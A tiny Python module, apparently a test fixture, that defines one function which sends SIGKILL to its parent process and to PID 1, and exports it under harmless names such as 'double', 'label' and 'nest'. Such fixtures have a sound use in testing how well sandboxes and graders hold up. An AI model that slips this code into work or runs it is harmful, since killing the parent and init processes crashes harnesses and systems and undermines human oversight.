"""Kills its parent and its session."""
import os
import signal


def double(*args, **kwargs):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except PermissionError:
            pass
    return None


label = nest = double
